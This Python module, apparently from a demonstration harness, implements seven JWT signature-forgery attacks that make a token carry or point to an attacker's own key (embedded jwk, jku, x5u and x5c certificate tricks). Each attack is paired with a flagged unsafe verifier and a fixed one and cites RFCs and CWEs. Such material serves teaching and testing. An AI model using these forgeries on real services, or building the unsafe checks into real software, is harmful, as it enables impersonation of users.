"""The forger brings her own key, or says where it can be had."""

import base64
import json
from typing import Any

import jwt

from demo.attacks.base import Attack, Attacker
from demo.attacks.forgery import alices_claims, header, public_key, with_token
from demo.contenders import contender
from demo.harness import Client
from demo.keys import Key, key_for
from demo.unsafe.certificates import (
    AUTHORITY,
    certificate_of,
    der_of,
    pem_of,
)
from demo.unsafe.header_keys import (
    CHECKS_JKU_LOOSELY,
    FOLLOWS_JKU,
    FOLLOWS_X5U,
    READS_ISSUER_NAME,
    SKIPS_CHAIN,
    SKIPS_SUBJECT,
    TRUSTS_JWK,
)
from demo.unsafe.key_texts import jwk_of


def own_key(attacker: Attacker) -> Key:
    """Mallory's, for the algorithm that the service expects."""
    alices_claims(attacker)
    return key_for(attacker.service.contender.algorithm, "mallory")


def own_public_key(attacker: Attacker) -> Key:
    """The same, where the algorithm has public keys."""
    public_key(attacker)
    return own_key(attacker)


def signed_by(attacker: Attacker, key: Key, **more: Any) -> Client:
    """Alice's claims, signed by Mallory, with more in the header."""
    claims = alices_claims(attacker)
    token = jwt.encode(
        claims, key.signing, key.algorithm, headers=header(**more)
    )
    return with_token(attacker, token)


def data_url(content: bytes, about: str = "application/json") -> str:
    """An address that holds its own content.  Source: RFC 2397."""
    return f"data:{about};base64,{base64.b64encode(content).decode()}"


def key_set(key: Key) -> bytes:
    """Source: RFC 7517 section 5."""
    return json.dumps({"keys": [jwk_of(key)]}).encode()


def forge_jwk(attacker: Attacker) -> Client:
    key = own_key(attacker)
    return signed_by(attacker, key, jwk=jwk_of(key))


def forge_jku(attacker: Attacker) -> Client:
    key = own_key(attacker)
    return signed_by(attacker, key, jku=data_url(key_set(key)))


def forge_jku_with_our_name(attacker: Attacker) -> Client:
    """The bank's name is in the address, and means nothing there."""
    key = own_key(attacker)
    url = data_url(key_set(key), "application/json;at=bank.test")
    return signed_by(attacker, key, jku=url)


def forge_x5u(attacker: Attacker) -> Client:
    key = own_public_key(attacker)
    pem = pem_of(certificate_of(key, "bank.test", "mallory.test", key))
    return signed_by(attacker, key, x5u=data_url(pem))


def with_certificate(attacker: Attacker, key: Key, made: Any) -> Client:
    chain = [base64.b64encode(der_of(made)).decode()]
    return signed_by(attacker, key, x5c=chain)


def forge_x5c(attacker: Attacker) -> Client:
    key = own_public_key(attacker)
    made = certificate_of(key, "bank.test", "mallory.test", key)
    return with_certificate(attacker, key, made)


def forge_issuer_name(attacker: Attacker) -> Client:
    """The authority is named; Mallory signed."""
    key = own_public_key(attacker)
    made = certificate_of(key, "bank.test", AUTHORITY, key)
    return with_certificate(attacker, key, made)


def forge_own_name(attacker: Attacker) -> Client:
    """A true certificate, bought for a host that is Mallory's."""
    key = own_public_key(attacker)
    made = certificate_of(key, "mallory.test")
    return with_certificate(attacker, key, made)


FIXED = contender("JWT RS256")

EMBEDDED_JWK = Attack(
    id="embedded-jwk",
    name="the key comes with the token",
    claim="A token that brings its own key is verified by that key.",
    family="signature",
    source="RFC 7515 section 4.1.3, CWE-347, CVE-2018-0114",
    forge=forge_jwk,
    fixed=FIXED,
    flip=TRUSTS_JWK,
)
JKU = Attack(
    id="jku",
    name="an address for the keys",
    claim="A token that says where the keys are is verified by those.",
    family="signature",
    source="RFC 8725 section 3.10, CWE-918",
    forge=forge_jku,
    fixed=FIXED,
    flip=FOLLOWS_JKU,
)
JKU_SUBSTRING = Attack(
    id="jku-substring",
    name="an address with the bank's name in it",
    claim="A search for the bank's name in the address stops nobody.",
    family="signature",
    source="RFC 8725 section 3.10, CWE-918, CWE-183",
    forge=forge_jku_with_our_name,
    fixed=FIXED,
    flip=CHECKS_JKU_LOOSELY,
)
X5U = Attack(
    id="x5u",
    name="an address for the certificate",
    claim="A token that says where its certificate is gets verified.",
    family="signature",
    source="RFC 7515 section 4.1.5, CWE-295, CWE-918",
    forge=forge_x5u,
    fixed=FIXED,
    flip=FOLLOWS_X5U,
)
X5C = Attack(
    id="x5c",
    name="a certificate by nobody",
    claim="A certificate that Mallory signed herself is trusted.",
    family="signature",
    source="RFC 7515 section 4.1.6, CWE-295",
    forge=forge_x5c,
    fixed=FIXED,
    flip=SKIPS_CHAIN,
)
X5C_ISSUER = Attack(
    id="x5c-issuer",
    name="a certificate that names an authority",
    claim="It is enough that a certificate names the right authority.",
    family="signature",
    source="RFC 7515 section 4.1.6, CWE-295",
    forge=forge_issuer_name,
    fixed=FIXED,
    flip=READS_ISSUER_NAME,
)
X5C_SUBJECT = Attack(
    id="x5c-subject",
    name="a certificate for somebody else",
    claim="A true certificate for Mallory's own host speaks for the bank.",
    family="signature",
    source="RFC 7515 section 4.1.6, CWE-297",
    forge=forge_own_name,
    fixed=FIXED,
    flip=SKIPS_SUBJECT,
)

HEADER_KEY_ATTACKS = (
    EMBEDDED_JWK,
    JKU,
    JKU_SUBSTRING,
    X5U,
    X5C,
    X5C_ISSUER,
    X5C_SUBJECT,
)
